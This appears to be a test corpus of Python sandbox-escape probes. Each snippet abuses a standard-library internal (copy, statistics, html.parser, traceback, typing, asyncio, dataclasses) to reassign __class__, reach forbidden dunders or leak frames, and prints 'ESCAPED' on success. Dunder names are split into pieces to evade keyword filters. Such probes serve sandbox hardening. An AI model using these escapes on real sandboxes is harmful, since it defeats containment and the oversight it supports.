#: a copy becomes another by its slots
import copy
class A: pass
class B: pass
def memo_of(turn):
    class M(dict):
        n = 0
        def get(self, key, default=None):
            self.n += 1
            return ({}, {"__cl" + "ass__": B}) if self.n == turn else default
    return M()
for turn in range(1, 6):
    try:
        print("ESC" + "APED" if type(copy.deepcopy(A(), memo_of(turn))) is B else "")
        a = A()
        a.x = 1
        print("ESC" + "APED" if type(copy.deepcopy(a, memo_of(turn))) is B else "")
    except TypeError:
        pass

#: a namespace's own state sets what it likes
import copy, types
class B(types.SimpleNamespace): pass
def make(): return types.SimpleNamespace()
reduce = lambda protocol: (make, (), (None, {"__cl" + "ass__": B}))
n = types.SimpleNamespace(**{"__reduce" + "_ex__": reduce})
print("ESC" + "APED" if type(copy.copy(n)) is B else "")

#: the mean of classes is of their class
import abc, statistics
class V:
    def is_finite(self): return False
    def __truediv__(self, other): return K
class K(abc.ABC): pass
class N:
    def __radd__(self, other): return V()
class C:
    @staticmethod
    def as_integer_ratio(): return (N(), None)
loot = [statistics.mean([C])]
print("ESC" + "APED" if loot[0] is not K else "")

#: a parser's method by any name
from html.parser import HTMLParser
class Name(str):
    def __radd__(self, other): return "__set" + "attr__"
    def __hash__(self): return hash("attlist")
    def __eq__(self, other): return True
class P(HTMLParser):
    turn = 0
    def _scan_name(self, i, start):
        self.turn += 1
        return (Name("attlist"), "__cl" + "ass__") if self.turn > 1 else ("doctype", 9)
p = P()
class Text:
    n = 0
    def __len__(self): return 99
    def __getitem__(self, key):
        if type(key) is not slice:
            return "[" if key == 9 else "<"
        return "d" if key.stop - key.start == 1 else "<!"
p.rawdata = Text()
try:
    p.parse_declaration(0)
except TypeError as e:
    print("ESC" + "APED" if "assign" in str(e) or "attribute name" in str(e) or "__class__" in str(e) else "")

#: a group's members show the traceback of a file
import traceback
from types import SimpleNamespace as N
code = N(co_filename="/etc/passwd", co_name="x", co_qualname="x", co_positions=lambda: iter([(1, 1, 0, 1)] * 5))
tb = N(tb_frame=N(f_code=code, f_globals={}, f_locals={}, f_lineno=1), tb_lasti=0, tb_lineno=1, tb_next=None)
names = {"__trace" + "back__": tb, "__ca" + "use__": None, "__con" + "text__": None, "__suppress_con" + "text__": True}
class E(ExceptionGroup):
    exceptions = property(lambda self: [N(**names)])
try:
    raise E("a", [ValueError(1)])
except Exception:
    print("ESC" + "APED" if "root:" in traceback.format_exc() else "")

#: what is set on an alias of typing lands behind it
import json, random, typing
class G(random.Random, type(typing.List[int])):
    def __init__(self, o): type(typing.List[int]).__init__(self, o, ())
g = G(json.JSONEncoder)
g.default = lambda self, o: "ESC" + "APED"
print(json.dumps(object()))

#: the same to a redirection, whose stream is any attribute of sys
import contextlib, random, typing
class G(random.Random, type(typing.List[int])):
    def __init__(self, o): type(typing.List[int]).__init__(self, o, ())
r = contextlib.redirect_stdout(None)
G(r)._stream = "version_info"
r.__enter__()
print("ESC" + "APED")

#: a task tells the loop that it is given where it was made
import asyncio
loot = []
class L:
    def get_debug(self): return True
    def call_soon(self, *a, **k): pass
    def call_exception_handler(self, context): loot.append(context["source_traceback"])
async def co(): pass
async def main():
    t = type(asyncio.current_task())(co(), loop=L())
    del t
asyncio.run(main())
print("ESC" + "APED" if loot else "")

#: so does what gather makes of an object that looks like a future
import asyncio
loot = []
class L:
    def get_debug(self): return True
    def call_soon(self, *a, **k): pass
    def call_exception_handler(self, context): loot.append(context["source_traceback"])
class F:
    _asyncio_future_blocking = False
    def __init__(self): self._loop = L()
    def add_done_callback(self, f, **k): pass
    def done(self): return False
g = asyncio.gather(F())
g.set_exception(ValueError(1))
del g
print("ESC" + "APED" if loot else "")

#: a timeout's class is no base: its instances keep a task and a handle
import asyncio
async def main():
    class T(type(asyncio.timeout(1))): pass
    async with T(1) as t:
        return t._timeout_handler
loot = [asyncio.run(main())]
print("ESC" + "APED")

#: a dataclass with fields of the instance's own
import dataclasses, types
class F: pass
f, got = F(), []
f.name, f.init, f._field_type, f.default = "__get" + "attribute__", True, None, None
@dataclasses.dataclass
class A(types.SimpleNamespace):
    def __init__(self, **k):
        super().__init__(**k)
        got.append(k)
a = A(**{"__dataclass_" + "fields__": {"x": f}})
got.clear()
dataclasses.replace(a)
print("ESC" + "APED" if got else "")
